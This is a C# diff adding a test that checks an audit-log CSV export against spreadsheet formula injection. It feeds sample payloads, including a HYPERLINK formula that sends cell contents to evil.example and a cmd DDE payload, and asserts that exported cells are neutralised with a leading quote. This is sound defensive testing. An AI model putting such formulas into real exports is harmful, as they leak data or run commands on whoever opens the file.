@@ -1,7 +1,10 @@
+using System.Globalization;
 using System.Text;
+using ControlZero.Cli.Audit;
 using ControlZero.Protocol.V1;
 using ControlZero.Server.Tests.Hosting;
 using ControlZero.Server.Tests.Hostile.Transport;
+using CsvHelper;
 using Google.Protobuf;
 using Google.Protobuf.WellKnownTypes;
 using Grpc.Core;
@@ -49,6 +52,13 @@ internal static class OutputRows
             StatusCode.ResourceExhausted,
             null), "the row names no status; the limit on the message refuses it before anything reads it"),
         ["J08"] = new(KeyOnDiskAsync),
+        ["J10"] = new(async target =>
+        {
+            foreach (var formula in (string[])["=HYPERLINK(\"http://evil.example/?\"&A1)", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1"])
+            {
+                await ExportedAsync(target, formula);
+            }
+        }),
         ["J12"] = new(TemplatesAsync),
     };
 
@@ -103,6 +113,20 @@ internal static class OutputRows
         var line = Assert.Single(LinesOf(target.Server.Data), line => line.Contains(answer.DecisionId, StringComparison.Ordinal));
         Assert.All(line, letter => Assert.InRange(letter, ' ', '~'));
         Assert.True(kept == value || !line.Contains(value, StringComparison.Ordinal), line);
+    }
+
+    // As a caller sends it, and as a policy may say it.
+    private static async Task ExportedAsync(HostileTarget target, string formula)
+    {
+        var answer = await target.DecideAsync(HostileTarget.Ask(request => request.Resource = formula.Trim()));
+        var found = await target.Audit.GetDecisionAsync(new GetDecisionRequest { DecisionId = answer.DecisionId }, target.Headers);
+        using var text = new StringWriter();
+        EventCsv.Write(text, [.. found.Events, new AuditEvent(found.Events[0]) { Reason = formula }], isFirst: true);
+
+        using var csv = new CsvReader(new StringReader(text.ToString()), CultureInfo.InvariantCulture);
+        var rows = csv.GetRecords<dynamic>().Select(row => (IDictionary<string, object>)row).ToList();
+        Assert.Equal((2, $"'{formula.Trim()}", $"'{formula}"), (rows.Count, rows[0]["resource"], rows[1]["reason"]));
+        Assert.All(rows.SelectMany(row => row.Values).Cast<string>(), cell => Assert.False(cell.Length > 0 && "=+-@\t\r".Contains(cell[0]), cell));
     }
 
     private static List<string> LinesOf(string data)
